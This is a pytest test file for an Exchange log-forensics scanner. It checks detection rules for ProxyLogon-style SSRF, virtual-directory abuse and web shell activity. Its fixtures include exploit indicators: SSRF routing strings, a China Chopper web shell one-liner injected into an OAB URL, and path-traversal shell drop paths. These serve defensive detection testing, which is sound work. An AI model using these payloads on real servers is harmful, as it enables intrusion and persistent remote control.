"""Every shipped Sigma rule, through the real pipeline: log file in a KAPE tree -> scan -> rule ids.

Each case writes one log file in its exact on-disk format (``logfmt``) under
``tmp_path/HOST/C/...``, scans ``HOST`` and checks which rule ids were found. True positives
assert the rule fires (and, where useful, which siblings fire with it); near misses assert it
does not (and which sibling fires instead). Row dicts state only the fields that differ from
``logfmt``'s realistic defaults.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping, Sequence
from functools import partial
from pathlib import Path

import pytest

from exhunt.engine.rules import shipped_rules
from exhunt.model import ScanResult, Stage
from logfmt import (
    IIS_BROWSER_UA,
    SERVER_FQDN,
    at,
    check_case,
    scan_clean,
    write_ecp,
    write_httpproxy,
    write_iis,
    write_oab,
)
from test_rules_successors import NEW_RULES as SUCCESSOR_RULES

Row = Mapping[str, object]

WRITERS: dict[str, Callable[[Path, Sequence[Row]], Path]] = {
    "httpproxy": write_httpproxy,
    "ecp": write_ecp,
    "oab": write_oab,
    "iis": write_iis,
    "iis-backend": partial(write_iis, site=2),
}
#: Where each kind of file must be classified, and read.
SOURCE_KIND = {"httpproxy": "httpproxy", "ecp": "ecp-server", "oab": "oabgenerator", "iis": "iis",
               "iis-backend": "iis"}

ISSUE_RULES = {
    "PL-SSRF-1", "PL-SSRF-1a", "PL-SSRF-1b", "PL-SSRF-2", "PL-SSRF-3", "PL-SSRF-4", "PL-SSRF-5",
    "PL-SSRF-6", "PL-SSRF-8", "PL-26858-1", "PL-27065-1", "PL-27065-2", "PL-27065-3", "PL-27065-6",
    "PL-SCAN-1", "PL-WS-5",
}
HIDDEN_RULES = {"PL-WS-5-base", "PL-WS-5-HP-base", "PL-WS-7-base"}


def run(tmp_path: Path, kind: str, rows: Sequence[Row]) -> ScanResult:
    """Write one log of ``kind`` into a KAPE tree and scan it; the file must be read in full, cleanly."""
    return scan_clean(tmp_path / "HOST", WRITERS[kind], SOURCE_KIND[kind], rows)


def found(tmp_path: Path, kind: str, rows: Sequence[Row]) -> set[str]:
    return {f.rule.id for f in run(tmp_path, kind, rows).findings}


# --- rows -----------------------------------------------------------------------------------------

ATTACKER = "130.255.189.21"
PROBER = "139.162.202.236"
BACKEND = f"ServerInfo~a]@{SERVER_FQDN}:444"
CANARY = "msExchEcpCanary=8BeqxxxWYd1L8."


def ssrf(path: str, **fields: object) -> dict[str, object]:
    """A HelseCERT-shaped SSRF row: /ecp/y.js routed by X-BEResource to ``BACKEND + path``."""
    row: dict[str, object] = {
        "ClientIpAddress": ATTACKER,
        "UrlStem": "/ecp/y.js",
        "RoutingHint": "X-BEResource-Cookie",
        "UserAgent": "python-requests/2.25.1",
        "AnchorMailbox": BACKEND + path,
        "AuthenticationType": "",
        "RoutingType": "",
    }
    row.update(fields)
    return row


AUTODISCOVER = ssrf("/autodiscover/autodiscover.xml?#", UserAgent="ExchangeServicesClient/0.0.0.0")
MAPI = ssrf("/mapi/emsmdb/?#")
PROXYLOGON = ssrf("/ecp/proxyLogon.ecp?#", HttpStatus=241, BackEndStatus=241)
RESET = ssrf(f"/ecp/DDI/DDIService.svc/SetObject?{CANARY}&schema=ResetOABVirtualDirectory#")
SET_OAB = ssrf(f"/ecp/DDI/DDIService.svc/SetObject?{CANARY}&schema=OABVirtualDirectory#")
#: Microsoft's http-vuln-cve2021-26855.nse checker as HttpProxy\Owa logs it (detections.md §1.1).
NSE = {
    "Protocol": "Owa",
    "UrlStem": "/owa/auth/x.js",
    "AnchorMailbox": "ServerInfo~localhost/ecp/default.flt?",
    "TargetServer": "localhost",
    "TargetServerVersion": "",
    "RoutingType": "",
    "RoutingHint": "X-AnonResource-Backend-Cookie",
    "HttpStatus": 500,
    "BackEndStatus": "",
    "AuthenticationType": "",
    "UserAgent": "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    # a comma, so the cell is CSV-quoted
    "GenericErrors": "ProxyRequestHandler: The remote server returned an error: (500), "
                     "WebExceptionStatus=ProtocolError",
}
#: An ordinary signed-in OWA request.
OWA_USER = {
    "Protocol": "Owa",
    "UrlStem": "/owa/service.svc",
    "AuthenticationType": "Negotiate",
    "IsAuthenticated": "true",
    "AuthenticatedUser": "CONTOSO\\jdoe",
    "AnchorMailbox": "Sid~S-1-5-21-1004336348-1177238915-682003330-1142",
    "Method": "POST",
    "RoutingHint": "WindowsIdentity",
    "BackEndCookie": "Database~fb7adba2-51f4-47e3-b170-fd39f85aaf35~~2021-04-02T06:49:42~contoso.local~1",
}

CHOPPER = ('http://f/<script language="JScript" runat="server">function Page_Load()'
           '{eval(Request["klk123456"],"unsafe");}</script>')
OAB_ID = "982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3"
SET_URL = f"/ecp/DDI/DDIService.svc/SetObject?{CANARY}&schema=OABVirtualDirectory"


def ecp(cmd: str, url: str = SET_URL, **items: object) -> dict[str, object]:
    return {"CMD": cmd, "URL": url, **items}


def oab(path: str) -> dict[str, object]:
    return {"Message": f"Download failed and temporary file {path} needs to be removed."}


OAB_TEMP = (r"'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp"
            r"\5d1f9f2a-27c1-4a8e-9f3c-0c4c7e1d2b3a\LZX41F2.tmp'")
HELSE_QUERY = "&CorrelationID=<empty>;&cafeReqId=cde28fc4-299e-4179-b3e9-de56f5c1d9ee;&encoding=;"


def iis(stem: str, **fields: object) -> dict[str, object]:
    """A front-end IIS request from the attacker's address."""
    return {"cs-uri-stem": stem, "c-ip": ATTACKER, **fields}


def post(stem: str, ua: str, status: int = 200) -> dict[str, object]:
    return iis(stem, **{"cs-method": "POST", "cs(User-Agent)": ua, "sc-status": status})


def reset_vdir(user: str, status: int = 200, schema: str = "ResetOABVirtualDirectory",
               ua: str = "python-requests/2.25.1") -> dict[str, object]:
    """The back-end (W3SVC2, port 444) request of the SSRF's virtual directory reset."""
    return {
        "s-port": 444, "c-ip": "10.10.1.5", "cs-method": "POST", "cs-uri-stem": "/ecp/DDI/DDIService.svc/SetObject",
        "cs-uri-query": f"{CANARY}&schema={schema}&CorrelationID=<empty>;&cafeReqId=8c4553be-4082-4ea1-8872-"
                        "bf21a831ee95;",
        "cs-username": user, "cs(User-Agent)": ua, "sc-status": status,
    }


#: /owa/auth/ names HelseCERT saw third parties probe for (detections.md PL-WS-5).
PROBES = ("RedirSuiteServerProxy.aspx", "OutlookEN.aspx", "errorFS.aspx", "ErrorAA.aspx", "zntwv.aspx",
          "getpp.aspx", "Err0r.aspx", "Current/scripts/premium/fexppw.aspx", "win.ashx")


def burst(kind: str, names: Sequence[str], every: float, ips: Sequence[str] = (PROBER,)) -> list[dict[str, object]]:
    """GETs for ``/owa/auth/<name>``, one every ``every`` seconds, cycling over ``ips``; all answered 302."""
    rows: list[dict[str, object]] = []
    for index, name in enumerate(names):
        ip = ips[index % len(ips)]
        if kind == "httpproxy":
            rows.append({"DateTime": at(index * every), "Protocol": "Owa", "UrlStem": f"/owa/auth/{name}",
                         "ClientIpAddress": ip, "HttpStatus": 302, "BackEndStatus": "", "ProxyAction": "",
                         "TargetServer": "", "TargetServerVersion": "", "RoutingType": ""})
        else:
            rows.append(iis(f"/owa/auth/{name}", time=at(index * every), **{"c-ip": ip, "sc-status": 302,
                                                                            "cs-uri-query": HELSE_QUERY}))
    return rows


#: Dark Halo exported mailboxes into OWA under image names and fetched them once (Volexity, via Sentinel).
EXPORTED = "/owa/auth/Current/themes/resources/lgnbotl2.gif"


def fetch(stem: str, seconds: float, **fields: object) -> dict[str, object]:
    return iis(stem, time=at(seconds), **{"cs-method": "GET", "sc-status": 200, **fields})


def owa_auth_hp(name: str, status: int) -> dict[str, object]:
    return {"Protocol": "Owa", "UrlStem": f"/owa/auth/{name}", "ClientIpAddress": PROBER, "HttpStatus": status}


# --- the table ------------------------------------------------------------------------------------


def tp(rule: str, kind: str, rows: Sequence[Row], *, also: Sequence[str] = (), absent: Sequence[str] = (),
       id: str, marks: object = ()) -> object:
    """True positive: ``rule`` is found, with ``also``, and without ``absent``."""
    return pytest.param(rule, kind, list(rows), True, tuple(also), tuple(absent), id=f"{rule}+{id}", marks=marks)


def nm(rule: str, kind: str, rows: Sequence[Row], *, instead: Sequence[str] = (), absent: Sequence[str] = (),
       id: str, marks: object = ()) -> object:
    """Near miss: ``rule`` is not found; ``instead`` are; ``absent`` are not either."""
    return pytest.param(rule, kind, list(rows), False, tuple(instead), tuple(absent), id=f"{rule}-{id}",
                        marks=marks)


CASES = [
    # PL-SSRF-1: ServerInfo~ routed beyond Autodiscover
    tp("PL-SSRF-1", "httpproxy", [MAPI], also=["PL-SSRF-3", "PL-SSRF-8"], absent=["PL-SSRF-1a", "PL-SCAN-1"],
       id="helsecert-mapi"),
    tp("PL-SSRF-1", "httpproxy", [ssrf("", AnchorMailbox="ServerInfo~burpcollaborator.net/ecp/default.flt?")],
       id="burpcollaborator"),
    nm("PL-SSRF-1", "httpproxy", [AUTODISCOVER], instead=["PL-SSRF-1a"], id="autodiscover-only"),
    nm("PL-SSRF-1", "httpproxy", [NSE], instead=["PL-SCAN-1"],
       absent=["PL-SSRF-1a", "PL-SSRF-3", "PL-SSRF-8"], id="nmap-checker"),
    nm("PL-SSRF-1", "httpproxy", [{"Protocol": "Owa", "UrlStem": "/owa/auth/logon.aspx",
                                   "AnchorMailbox": "ServerInfo~localhost/owa/auth/logon.aspx?"}],
       instead=["PL-SCAN-1"], id="localhost-logon"),
    nm("PL-SSRF-1", "httpproxy", [OWA_USER], absent=["PL-SSRF-1a", "PL-SSRF-1b"], id="signed-in-user"),
    # PL-SSRF-1a: Autodiscover-only SSRF (failed attempt)
    tp("PL-SSRF-1a", "httpproxy", [AUTODISCOVER], absent=["PL-SSRF-1"], id="helsecert-autodiscover"),
    tp("PL-SSRF-1a", "httpproxy",
       [ssrf("", AnchorMailbox="ServerInfo~akak]@EXC01.LOCAL:444/AutoDiscover/Autodiscover.xml?#")],
       absent=["PL-SSRF-1"], id="mixed-case"),
    nm("PL-SSRF-1a", "httpproxy", [MAPI], instead=["PL-SSRF-1"], id="mapi"),
    nm("PL-SSRF-1a", "httpproxy", [ssrf("", AnchorMailbox="ServerInfo~localhost/autodiscover/autodiscover.xml?")],
       instead=["PL-SCAN-1"], id="localhost-autodiscover"),
    # PL-SSRF-1b: Server~<path>~ back-end cookie
    tp("PL-SSRF-1b", "httpproxy",
       [ssrf("", AnchorMailbox="", BackEndCookie=f"Server~a]@{SERVER_FQDN}:444/mapi/emsmdb/?#~1941962753")],
       absent=["PL-SSRF-1"], id="path-in-cookie"),
    nm("PL-SSRF-1b", "httpproxy",
       [{**OWA_USER, "BackEndCookie": f"Server~{SERVER_FQDN}~1941962753~2021-04-02T06:49:42"}], id="server-cookie"),
    nm("PL-SSRF-1b", "httpproxy", [OWA_USER], id="database-cookie"),
    # PL-SSRF-2: proxyLogon.ecp answered 241
    tp("PL-SSRF-2", "httpproxy", [PROXYLOGON], also=["PL-SSRF-1"], id="helsecert-241"),
    nm("PL-SSRF-2", "httpproxy", [ssrf("/ecp/proxyLogon.ecp?#", HttpStatus=500)], instead=["PL-SSRF-1"],
       id="status-500"),
    nm("PL-SSRF-2", "httpproxy",
       [{**OWA_USER, "Protocol": "Ecp", "UrlStem": "/ecp/proxyLogon.ecp", "HttpStatus": 241}], id="cross-site-proxy"),
    # PL-SSRF-3: short resource routed by a back-end cookie
    tp("PL-SSRF-3", "httpproxy", [{"Protocol": "Owa", "UrlStem": "/owa/auth/w.js", "ClientIpAddress": ATTACKER,
                                   "RoutingHint": "X-AnonResource-Backend-Cookie", "HttpStatus": 500}],
       absent=["PL-SSRF-1", "PL-SSRF-8", "PL-SCAN-1"], id="owa-auth-w-js"),
    tp("PL-SSRF-3", "httpproxy", [ssrf("/mapi/emsmdb/?#", UrlStem="/ecp/main.css")], id="ecp-main-css"),
    nm("PL-SSRF-3", "httpproxy", [NSE], instead=["PL-SCAN-1"], id="nmap-checker"),
    nm("PL-SSRF-3", "httpproxy", [{"UrlStem": "/ecp/y.js", "ClientIpAddress": ATTACKER}], id="no-routing-cookie"),
    nm("PL-SSRF-3", "httpproxy", [{"UrlStem": "/ecp/15.1.2176/scripts/microsoft.exchange.ecp.js",
                                   "RoutingHint": "X-BEResource-Cookie"}], id="nested-static-file"),
    # PL-SSRF-8: raw-line signature
    tp("PL-SSRF-8", "httpproxy", [MAPI], id="helsecert-y-js"),
    tp("PL-SSRF-8", "httpproxy",
       [{"UrlStem": "/ecp/", "AnchorMailbox": "ServerInfo~burpcollaborator.net/ecp/default.flt?"}],
       also=["PL-SSRF-1"], absent=["PL-SSRF-3"], id="resource-in-anchor"),
    nm("PL-SSRF-8", "httpproxy", [NSE], instead=["PL-SCAN-1"], id="nmap-checker"),
    nm("PL-SSRF-8", "httpproxy", [ssrf("/mapi/emsmdb/?#", UrlStem="/ecp/abcd.js")],
       instead=["PL-SSRF-1", "PL-SSRF-3"], id="four-letter-name"),
    nm("PL-SSRF-8", "httpproxy", [{"UrlStem": "/ecp/y.js", "RoutingHint": "X-BEResource-Cookie"}],
       instead=["PL-SSRF-3"], id="no-serverinfo"),
    # PL-SCAN-1: Microsoft's checker
    tp("PL-SCAN-1", "httpproxy", [NSE], absent=["PL-SSRF-1", "PL-SSRF-1a", "PL-SSRF-3", "PL-SSRF-8"],
       id="nmap-checker"),
    tp("PL-SCAN-1", "httpproxy", [{"Protocol": "Owa", "UrlStem": "/owa/auth/x.js",
                                   "RoutingHint": "X-AnonResource-Backend-Cookie"}], also=["PL-SSRF-3"],
       id="checker-without-anchor"),
    nm("PL-SCAN-1", "httpproxy", [ssrf("/mapi/emsmdb/?#", Protocol="Owa", UrlStem="/owa/auth/x.js")],
       instead=["PL-SSRF-1", "PL-SSRF-3", "PL-SSRF-8"], id="x-js-attack"),
    # PL-27065-3: virtual directory reset through the SSRF
    tp("PL-27065-3", "httpproxy", [RESET], also=["PL-SSRF-1"], id="helsecert-reset"),
    nm("PL-27065-3", "httpproxy", [{**RESET, "HttpStatus": 500}], instead=["PL-SSRF-1"], id="status-500"),
    nm("PL-27065-3", "httpproxy", [SET_OAB], instead=["PL-SSRF-1"], id="set-not-reset"),
    # PL-WS-5-HP: burst of missing /owa/auth/ scripts in HttpProxy\Owa
    tp("PL-WS-5-HP", "httpproxy", burst("httpproxy", PROBES[:5], 120), absent=["PL-WS-5-USE-HP"], id="5-in-8min"),
    nm("PL-WS-5-HP", "httpproxy", burst("httpproxy", PROBES[:4], 120), id="4-in-6min"),
    nm("PL-WS-5-HP", "httpproxy", burst("httpproxy", PROBES[:5], 450), id="5-over-30min"),
    nm("PL-WS-5-HP", "httpproxy", burst("httpproxy", [*PROBES[:4], "logon.aspx"], 60), id="4-plus-shipped"),
    nm("PL-WS-5-HP", "httpproxy", burst("httpproxy", ["OutlookEN.aspx"] * 6, 30), id="same-name-6x"),
    nm("PL-WS-5-HP", "httpproxy",
       burst("httpproxy", PROBES[:5], 60, ips=[PROBER, "67.205.176.9", "45.77.1.2", "5.2.69.14", "89.34.111.11"]),
       id="5-clients"),
    nm("PL-WS-5-HP-base", "httpproxy", [owa_auth_hp("OutlookEN.aspx", 302)], id="hidden-alone"),
    # PL-WS-5-USE-HP: non-Exchange /owa/auth/ script answered 200 (HttpProxy)
    tp("PL-WS-5-USE-HP", "httpproxy", [owa_auth_hp("RedirSuiteServerProxy.aspx", 200)], id="helsecert-shell"),
    nm("PL-WS-5-USE-HP", "httpproxy", [owa_auth_hp("RedirSuiteServiceProxy.aspx", 200)], id="shipped-page"),
    nm("PL-WS-5-USE-HP", "httpproxy", [owa_auth_hp("RedirSuiteServerProxy.aspx", 302)], id="absent-302"),
    # PL-27065-1: any Set-*VirtualDirectory in the ECP server log
    tp("PL-27065-1", "ecp", [ecp(f"Set-OabVirtualDirectory.ExternalUrl='{CHOPPER}'.Identity='{OAB_ID}'")],
       also=["PL-27065-2"], id="china-chopper"),
    tp("PL-27065-1", "ecp",
       [ecp("Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'"
            ".Identity='EXCH01\\OAB (Default Web Site)'", url="/ecp/DDI/DDIService.svc/SetObject?"
            "msExchEcpCanary=X1yZ.&schema=OABVirtualDirectory", SID="S-1-5-21-1004336348-1177238915-682003330-500")],
       absent=["PL-27065-2"], id="admin-external-url"),
    nm("PL-27065-1", "ecp", [ecp(f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{OAB_ID}'")],
       id="get-vdir"),
    nm("PL-27065-1", "ecp",
       [ecp("New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='EXCH01'.Role='ClientAccess'"
            ".InternalURL='https://exch01.contoso.local/OAB'"
            ".Path='C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB'")],
       id="new-vdir"),
    # PS-CMD-ECP-1: mailbox export through ECP
    tp("PS-CMD-ECP-1", "ecp", [ecp("New-MailboxExportRequest.Mailbox='bob'.FilePath='\\\\fs01\\pst$\\bob.pst'",
                                   "/ecp/DDI/DDIService.svc/NewObject?schema=MailboxExportRequest")], id="export"),
    nm("PS-CMD-ECP-1", "ecp", [ecp("Get-MailboxExportRequest.Identity=$null",
                                   "/ecp/DDI/DDIService.svc/GetList?schema=MailboxExportRequest")],
       id="listing-exports"),
    # PL-27065-2: markup in a virtual directory URL
    tp("PL-27065-2", "ecp", [ecp(f"Set-OabVirtualDirectory.ExternalUrl='{CHOPPER}'.Identity='{OAB_ID}'")],
       also=["PL-27065-1"], id="helsecert-china-chopper"),
    tp("PL-27065-2", "ecp",
       [ecp("Set-EcpVirtualDirectory.InternalUrl='http://f/<script runat=\"server\">Response.Write(1)</script>'"
            ".Identity='EXCH01\\ecp (Default Web Site)'")], id="ecp-internal-url"),
    nm("PL-27065-2", "ecp", [ecp("Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'"
                                 ".Identity='EXCH01\\OAB (Default Web Site)'")],
       instead=["PL-27065-1"], id="admin-external-url"),
    nm("PL-27065-2", "ecp", [ecp(f"Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{OAB_ID}'")],
       instead=["PL-27065-1"], id="url-reset-to-null"),
    # PL-26858-1: OAB download outside ClientAccess\OAB
    tp("PL-26858-1", "oab", [oab(r"'C:\inetpub\wwwroot\aspnet_client\discover.aspx'")], id="aspnet-client"),
    tp("PL-26858-1", "oab",
       [oab(r"'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\..\..\..\FrontEnd\HttpProxy"
            r"\owa\auth\shell.aspx'")], id="climbs-out-of-oab"),
    tp("PL-26858-1", "oab", [oab(r"'\\198.51.100.7\share\s.aspx'")], id="unc-path"),
    tp("PL-26858-1", "oab", [oab(r"'C:\inetpub\wwwroot\aspnet_client\ClientAccess\OAB\x.aspx'")],
       id="oab-lookalike-in-web-folder"),
    nm("PL-26858-1", "oab", [oab(OAB_TEMP)], id="oab-temp"),
    nm("PL-26858-1", "oab", [oab(r"'D:\Exchange Server\V15\ClientAccess\OAB\Temp\LZX41F2.tmp'")],
       id="oab-temp-on-d"),
    nm("PL-26858-1", "oab", [{"Message": r"Downloaded 'C:\inetpub\wwwroot\aspnet_client\discover.aspx'."}],
       id="no-failure-phrase"),
    # PL-SSRF-4: Sentinel URL pattern from a public address
    tp("PL-SSRF-4", "iis", [iis("/ecp/y.js", **{"sc-status": 404})], absent=["PL-SSRF-6"], id="ecp-y-js"),
    tp("PL-SSRF-4", "iis", [iis("/owa/auth/x.js")], also=["PL-SCAN-1-IIS"], id="owa-auth-x-js"),
    nm("PL-SSRF-4", "iis", [iis("/ecp/y.js", **{"c-ip": "192.168.1.20"})], id="private-192-168"),
    nm("PL-SSRF-4", "iis", [iis("/ecp/y.js", **{"c-ip": "10.1.2.3"})], id="private-10"),
    nm("PL-SSRF-4", "iis", [iis("/ecp/y.js", **{"c-ip": "172.16.5.5"})], id="private-172-16"),
    nm("PL-SSRF-4", "iis", [iis("/ecp/y.js", **{"c-ip": "::1"})], id="loopback-v6"),
    nm("PL-SSRF-4", "iis", [iis("/ecp/15.1.2176/scripts/ecp.js")], id="nested-static-file"),
    # PL-SSRF-5: POST to OWA theme resources
    tp("PL-SSRF-5", "iis", [post("/owa/auth/Current/themes/resources/logon.css", "python-requests/2.25.1", 500)],
       id="logon-css"),
    tp("PL-SSRF-5", "iis", [post("/owa/auth/Current/themes/resources/SegoeUI-SemiLight.ttf", "curl/7.68.0", 500)],
       id="segoe-ttf"),
    nm("PL-SSRF-5", "iis", [iis("/owa/auth/Current/themes/resources/logon.css")], id="get"),
    nm("PL-SSRF-5", "iis", [post("/owa/auth/Current/themes/resources/favicon.ico", "curl/7.68.0", 500)],
       id="other-file"),
    # PL-SSRF-6: HAFNIUM user agents and paths, answered 2xx/3xx
    tp("PL-SSRF-6", "iis", [post("/ecp/y.js", "ExchangeServicesClient/0.0.0.0")], also=["PL-SSRF-4"],
       id="y-js-ews-client"),
    tp("PL-SSRF-6", "iis", [post("/ecp/DDI/DDIService.svc/SetObject", "python-requests/2.25.1", 302)],
       id="ecp-python-requests"),
    tp("PL-SSRF-6", "iis",
       [post("/owa/auth/Current/themes/resources/logon.css",
             "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)")],
       also=["PL-SSRF-5"], id="owa-current-baiduspider"),
    tp("PL-SSRF-6", "iis", [post("/aspnet_client/system_web/log.aspx", "antSword/v2.1")], also=["PL-WS-5-USE"],
       id="aspnet-client-antsword"),
    tp("PL-SSRF-6", "iis",
       [post("/aspnet_client/discover.aspx", "Googlebot/2.1 (+http://www.googlebot.com/bot.html)")],
       also=["PL-WS-5-USE"], id="aspnet-client-googlebot"),
    nm("PL-SSRF-6", "iis", [post("/ecp/y.js", "ExchangeServicesClient/0.0.0.0", 404)], instead=["PL-SSRF-4"],
       id="y-js-404"),
    nm("PL-SSRF-6", "iis", [iis("/ecp/y.js", **{"cs(User-Agent)": "ExchangeServicesClient/0.0.0.0"})],
       instead=["PL-SSRF-4"], id="y-js-get"),
    nm("PL-SSRF-6", "iis", [post("/ecp/DDI/DDIService.svc/SetObject", "python-requests/2.31.0")], id="other-ua"),
    # PL-27065-6: virtual directory reset by the computer account (IIS back end)
    tp("PL-27065-6", "iis-backend", [reset_vdir("CONTOSO\\EXCH01$")], id="computer-account"),
    nm("PL-27065-6", "iis-backend", [reset_vdir("CONTOSO\\exadmin", ua=IIS_BROWSER_UA)], id="admin-account"),
    nm("PL-27065-6", "iis-backend", [reset_vdir("CONTOSO\\EXCH01$", status=500)], id="status-500"),
    nm("PL-27065-6", "iis-backend", [reset_vdir("CONTOSO\\EXCH01$", schema="OABVirtualDirectory")], id="no-reset"),
    # PL-SCAN-1-IIS: the checker's GET /owa/auth/x.js
    tp("PL-SCAN-1-IIS", "iis",
       [iis("/owa/auth/x.js", **{"cs(User-Agent)": "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
                                                   "https://nmap.org/book/nse.html)", "sc-status": 500})],
       also=["PL-SSRF-4"], id="nmap-checker"),
    nm("PL-SCAN-1-IIS", "iis", [iis("/owa/auth/y.js")], instead=["PL-SSRF-4"], id="other-name"),
    nm("PL-SCAN-1-IIS", "iis", [post("/owa/auth/x.js", "python-requests/2.25.1")], instead=["PL-SSRF-4"],
       id="post"),
    # PL-WS-5: burst of missing /owa/auth/ scripts (IIS)
    tp("PL-WS-5", "iis", burst("iis", PROBES[:5], 150), absent=["PL-WS-5-USE"], id="5-in-10min"),
    tp("PL-WS-5", "iis", burst("iis", PROBES, 20), id="9-in-3min"),
    nm("PL-WS-5", "iis", burst("iis", PROBES[:4], 150), id="4-in-10min"),
    nm("PL-WS-5", "iis", burst("iis", PROBES[:5], 450), id="5-over-30min"),
    nm("PL-WS-5", "iis", burst("iis", [*PROBES[:4], "RedirSuiteServiceProxy.aspx"], 60), id="4-plus-shipped"),
    nm("PL-WS-5", "iis", burst("iis", PROBES[:5], 60, ips=[PROBER, "67.205.176.9"]), id="2-clients"),
    nm("PL-WS-5-base", "iis", [iis("/owa/auth/OutlookEN.aspx", **{"sc-status": 302})], id="hidden-alone"),
    # PL-WS-5-USE: non-Exchange script answered 200 (IIS)
    tp("PL-WS-5-USE", "iis", [iis("/owa/auth/RedirSuiteServerProxy.aspx",
                                  **{"c-ip": PROBER, "cs-uri-query": HELSE_QUERY})], id="helsecert-shell"),
    tp("PL-WS-5-USE", "iis", [iis("/aspnet_client/system_web/log.aspx")], id="aspnet-client"),
    nm("PL-WS-5-USE", "iis", [iis("/owa/auth/RedirSuiteServiceProxy.aspx", **{"cs-uri-query": HELSE_QUERY})],
       id="shipped-page"),
    nm("PL-WS-5-USE", "iis", [iis("/owa/auth/RedirSuiteServerProxy.aspx", **{"sc-status": 302})], id="absent-302"),
    nm("PL-WS-5-USE", "iis", [iis("/owa/auth/logon.aspx")], id="logon-page"),
    # PL-WS-7: Sentinel's mailbox-export hosting hunt (a file under /owa/ pulled back once or twice)
    tp("PL-WS-7", "iis", [fetch(EXPORTED, 0), fetch(EXPORTED, 600)], id="exported-image-twice"),
    nm("PL-WS-7", "iis", [fetch(EXPORTED, 0), fetch(EXPORTED, 600), fetch(EXPORTED, 6 * 86400)],
       id="three-in-14-days"),
    nm("PL-WS-7", "iis", [fetch(EXPORTED, 0, **{"c-ip": "10.20.0.7"})], id="internal-client"),
    nm("PL-WS-7", "iis", [fetch(EXPORTED, 0, **{"cs-uri-query": "v=1"})], id="with-query"),
    nm("PL-WS-7", "iis", [fetch(EXPORTED, 0, **{"sc-status": 404})], id="not-found"),
    nm("PL-WS-7", "iis", [fetch("/owa/auth/Current/themes/resources/x.ashx", 0)], id="script-extension"),
    nm("PL-WS-7-base", "iis", [fetch(EXPORTED, 0)], instead=["PL-WS-7"], id="hidden-alone"),
]


@pytest.mark.parametrize(("rule", "kind", "rows", "present", "others", "absent"), CASES)
def test_rule(tmp_path: Path, rule: str, kind: str, rows: list[Row], present: bool,
              others: tuple[str, ...], absent: tuple[str, ...]) -> None:
    check_case(found(tmp_path, kind, rows), rule, present, others, absent, HIDDEN_RULES)


def _case_rules(present: bool) -> set[str]:
    return {case.values[0] for case in CASES if case.values[3] is present}


def test_every_shipped_rule_has_positive_and_near_miss_cases() -> None:
    # the ProxyShell/ProxyNotShell rules have their cases in test_rules_successors.py
    visible = {info.id for info in shipped_rules().infos} - SUCCESSOR_RULES
    # the event-log rules have their cases in test_rules_evtx.py
    visible -= {rule.info.id for rule in shipped_rules().for_kind("evtx")}
    assert visible <= _case_rules(True)
    assert visible | HIDDEN_RULES <= _case_rules(False)


# --- host stage -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("kind", "rows", "rules", "stage"), [
    pytest.param("httpproxy", [MAPI], {"PL-SSRF-1", "PL-SSRF-3", "PL-SSRF-8"}, Stage.EXPLOITED, id="critical-exploit"),
    pytest.param("ecp", [ecp(f"Set-OabVirtualDirectory.ExternalUrl='{CHOPPER}'.Identity='{OAB_ID}'")],
                 {"PL-27065-1", "PL-27065-2"}, Stage.EXPLOITED, id="china-chopper"),
    pytest.param("ecp", [ecp("Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'")],
                 {"PL-27065-1"}, Stage.CLEAN, id="informational-vdir-change"),
    pytest.param("httpproxy", [NSE], {"PL-SCAN-1"}, Stage.CLEAN, id="informational-checker"),
    pytest.param("iis", [iis("/ecp/y.js", **{"sc-status": 404})], {"PL-SSRF-4"}, Stage.PROBED, id="low-ssrf-4"),
    pytest.param("httpproxy", [AUTODISCOVER], {"PL-SSRF-1a", "PL-SSRF-3", "PL-SSRF-8"}, Stage.PROBED,
                 id="failed-attempt"),
    pytest.param("iis", [iis("/owa/auth/RedirSuiteServerProxy.aspx", **{"cs-uri-query": HELSE_QUERY})],
                 {"PL-WS-5-USE"}, Stage.COMPROMISED, id="web-shell-used"),
    pytest.param("httpproxy", [OWA_USER], set(), Stage.CLEAN, id="no-findings"),
])
def test_host_stage(tmp_path: Path, kind: str, rows: list[Row], rules: set[str], stage: Stage) -> None:
    result = run(tmp_path, kind, rows)
    assert {f.rule.id for f in result.findings} == rules
    assert result.hosts[0].stage is stage


def test_low_rule_never_raises_host_above_probed(tmp_path: Path) -> None:
    rows = [iis(f"/ecp/{name}.js", time=at(index)) for index, name in enumerate(("y", "x", "abc", "zz"))]
    result = run(tmp_path, "iis", rows)
    assert {f.rule.id for f in result.findings} == {"PL-SSRF-4"}
    assert len(result.findings) == 4
    assert result.hosts[0].stage is Stage.PROBED


# --- the shipped rule set ------------------------------------------------------------------------


def test_shipped_rules_load_cleanly() -> None:
    rules = shipped_rules()
    assert rules.diagnostics == ()
    ids = [info.id for info in rules.infos]
    assert len(ids) == len(set(ids))
    for info in rules.infos:
        assert info.id, info
        assert info.title, info.id
        assert info.references, info.id
    assert set(ids) >= ISSUE_RULES
    assert {"PL-WS-5", "PL-WS-5-HP"} <= {c.info.id for c in rules.correlations}


def test_base_rules_are_hidden() -> None:
    rules = shipped_rules()
    hidden = {rule.name for rule in rules.rules if rule.hidden}
    assert hidden == HIDDEN_RULES
    assert not HIDDEN_RULES & {info.id for info in rules.infos}
